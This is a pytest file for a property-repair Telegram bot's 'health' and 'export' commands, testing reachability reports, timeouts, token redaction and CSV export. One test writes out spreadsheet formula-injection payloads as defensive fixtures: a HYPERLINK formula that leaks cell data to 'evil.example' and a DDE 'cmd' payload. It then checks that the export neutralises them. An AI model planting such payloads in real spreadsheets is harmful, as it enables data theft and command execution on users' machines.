"""`propdesk health` and `propdesk export`, against a real database and the emulator."""

import asyncio
import csv
import sqlite3
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import timedelta
from pathlib import Path

import pytest

from bot.clock import ManualClock
from bot.emulator import BotApiEmulator, EmulatorServer
from tests.flows.harness import TOKEN, Desk, run_cli
from tests.flows.repair_steps import OWNER, RECEPTIONIST, TECH, file_home_repair, staffed


@asynccontextmanager
async def _bot_api(
    monkeypatch: pytest.MonkeyPatch, database_url: str, path: str = ""
) -> AsyncIterator[None]:
    """The CLI's settings pointed at the test's database and an emulated Bot API (under an
    extra `path`, e.g. a proxy's wrong prefix)."""
    async with EmulatorServer(BotApiEmulator(token=TOKEN)) as server:
        monkeypatch.setenv("PROPDESK_TOKEN", TOKEN)
        monkeypatch.setenv("PROPDESK_DATABASE_URL", database_url)
        monkeypatch.setenv("PROPDESK_API_BASE_URL", server.base_url.replace("/bot", path + "/bot"))
        yield


async def test_health_is_ok_when_database_and_bot_api_answer_and_fails_otherwise(
    database_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    async with _bot_api(monkeypatch, database_url):
        assert await run_cli("health") == 0
        out = capsys.readouterr().out
        assert "database: ok" in out and "telegram: ok (@propdesk_test_bot)" in out
        monkeypatch.setenv("PROPDESK_TOKEN", "999:WRONG")
        assert await run_cli("health") == 1
        assert "telegram: unreachable" in capsys.readouterr().out
    monkeypatch.setenv("PROPDESK_TOKEN", TOKEN)
    monkeypatch.setenv("PROPDESK_DATABASE_URL", "postgresql://nobody@127.0.0.1:1/none")
    assert await run_cli("health") == 1
    assert "database: unreachable" in capsys.readouterr().out


async def test_health_names_a_missing_or_empty_database_and_creates_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # run from the wrong directory: the SQLite file the setting names is not there
    async with EmulatorServer(BotApiEmulator(token=TOKEN)) as server:
        monkeypatch.setenv("PROPDESK_TOKEN", TOKEN)
        monkeypatch.setenv("PROPDESK_API_BASE_URL", server.base_url)
        missing = tmp_path / "elsewhere" / "propdesk.db"
        missing.parent.mkdir()
        monkeypatch.setenv("PROPDESK_DATABASE_URL", f"sqlite+aiosqlite:///{missing}")
        assert await run_cli("health") == 1
        out = capsys.readouterr().out
        assert f"database: no database file at {missing}" in out
        assert "telegram: ok" in out
        assert list(missing.parent.iterdir()) == []  # health created nothing
        # a file with no schema: said in one line, without SQL
        empty = tmp_path / "empty.db"
        sqlite3.connect(empty).close()
        monkeypatch.setenv("PROPDESK_DATABASE_URL", f"sqlite+aiosqlite:///{empty}")
        assert await run_cli("health") == 1
        out = capsys.readouterr().out
        assert "database: schema (none) but " in out and "propdesk db upgrade" in out
        assert "SQL" not in out and "no such table" not in out


async def test_health_never_prints_the_token_when_the_bot_api_refuses_it(
    database_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # python-telegram-bot puts the token in InvalidToken's message; monitoring keeps the output
    async with _bot_api(monkeypatch, database_url, path="/wrong"):
        assert await run_cli("health") == 1
        out = capsys.readouterr().out
        assert "telegram: unreachable (InvalidToken: The token `<token>` was rejected" in out
        assert TOKEN not in out and TOKEN.split(":")[1] not in out
        monkeypatch.setenv("PROPDESK_TOKEN", "")
        assert await run_cli("health") == 1
        assert "telegram: not checked, PROPDESK_TOKEN is not set" in capsys.readouterr().out


async def test_health_gives_up_on_a_database_and_a_bot_api_that_never_answer(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # a server that accepts the connection and says nothing (a stuck proxy, a locked table)
    async def silent(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.read()

    server = await asyncio.start_server(silent, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    monkeypatch.setattr("bot.ops.HEALTH_TIMEOUT_S", 0.5)
    monkeypatch.setenv("PROPDESK_TOKEN", TOKEN)
    monkeypatch.setenv("PROPDESK_DATABASE_URL", f"postgresql+asyncpg://x@127.0.0.1:{port}/db")
    monkeypatch.setenv("PROPDESK_API_BASE_URL", f"http://127.0.0.1:{port}/bot")
    try:
        started = asyncio.get_running_loop().time()
        assert await run_cli("health") == 1
        took = asyncio.get_running_loop().time() - started
    finally:
        server.close()
    out = capsys.readouterr().out
    assert "database: no answer within 0.5 s" in out
    assert "telegram: no answer within 0.5 s" in out
    assert took < 5, took


async def test_export_writes_tickets_and_their_signed_history_without_phone_numbers(
    database_url: str, clock: ManualClock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with Desk(database_url, clock) as desk:
        await staffed(desk)
        await desk.owner(OWNER, lang="en")
        ref = await file_home_repair(desk, photos=0)
        await desk.press(RECEPTIONIST, "Dispatch → Zhang Wei")
        await desk.press(TECH, "Arrived")
        await desk.press(TECH, "Record fee")
        await desk.send(TECH, "50")
        await desk.send(TECH, "labour")
    monkeypatch.setenv("PROPDESK_DATABASE_URL", database_url)
    assert await run_cli("export", "--out", str(tmp_path / "out")) == 0
    raw = (tmp_path / "out" / "tickets.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM for Chinese text
    tickets = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    events_text = (tmp_path / "out" / "events.csv").read_text(encoding="utf-8-sig")
    events = list(csv.DictReader(events_text.splitlines()))

    assert [(t["ref"], t["state"], t["unit"], t["assignee"]) for t in tickets] == [
        (ref, "on_site", "1-2-301", "Zhang Wei")
    ]
    assert tickets[0]["created_at"] == "2026-11-27 10:00"
    # what the office's records need of each step: who it went to, the amount charged
    assert [(e["action"], e["actor"], e["details"]) for e in events] == [
        ("created", "Li", ""),
        ("dispatched", "Wang Fang", "technician=Zhang Wei"),
        ("arrived", "Zhang Wei", ""),
        ("fee", "Zhang Wei", "amount=50"),
    ]
    assert b"13800000000" not in raw


async def test_export_shows_what_owners_typed_as_text_never_as_a_formula(
    database_url: str, clock: ManualClock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # An owner's Telegram name and description are theirs to choose; opened in a spreadsheet
    # at the office, a cell starting with = + - or @ would otherwise run as a formula.
    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    text = '=cmd|" /C calc"!A0 kitchen tap drips'
    async with Desk(database_url, clock) as desk:
        await staffed(desk)
        await desk.owner(OWNER, name=name, lang="en")
        await file_home_repair(desk, text=text, photos=0)
    monkeypatch.setenv("PROPDESK_DATABASE_URL", database_url)
    assert await run_cli("export", "--out", str(tmp_path / "out")) == 0
    tickets_text = (tmp_path / "out" / "tickets.csv").read_text(encoding="utf-8-sig")
    events_text = (tmp_path / "out" / "events.csv").read_text(encoding="utf-8-sig")
    tickets = list(csv.DictReader(tickets_text.splitlines()))
    events = list(csv.DictReader(events_text.splitlines()))

    assert tickets[0]["owner"] == "'" + name
    assert tickets[0]["summary"] == "'" + text
    assert events[0]["actor"] == "'" + name
    cells = [cell for row in csv.reader((tickets_text + events_text).splitlines()) for cell in row]
    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")]


def test_full_width_and_ideographic_space_formula_starts_are_shown_as_text() -> None:
    # a Chinese input method types ＝ and a full-width space as readily as =
    from bot.ops import safe_cell

    assert safe_cell("＝HYPERLINK(1)") == "'＝HYPERLINK(1)"
    assert safe_cell("\u3000=1+1") == "'\u3000=1+1"
    assert safe_cell("厨房水龙头漏水") == "厨房水龙头漏水"


async def test_export_since_a_day_has_what_happened_from_then_on_older_tickets_too(
    database_url: str, clock: ManualClock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a weekly export must not miss the steps taken this week on last week's tickets
    async with Desk(database_url, clock) as desk:
        await staffed(desk)
        await desk.owner(OWNER, lang="en")
        old = await file_home_repair(desk, photos=0)  # 27 Nov
        await desk.tick(timedelta(days=2))
        await desk.press(RECEPTIONIST, "Dispatch → Zhang Wei")  # 29 Nov
        untouched = await file_home_repair(desk, text="The fan rattles", photos=0)
    monkeypatch.setenv("PROPDESK_DATABASE_URL", database_url)
    out = tmp_path / "week"
    assert await run_cli("export", "--out", str(out), "--since", "2026-11-28") == 0
    tickets = list(csv.DictReader((out / "tickets.csv").read_text("utf-8-sig").splitlines()))
    events = list(csv.DictReader((out / "events.csv").read_text("utf-8-sig").splitlines()))
    assert [t["ref"] for t in tickets] == [old, untouched]
    assert [(e["ref"], e["action"]) for e in events] == [
        (old, "dispatched"), (untouched, "created"),
    ]  # fmt: skip
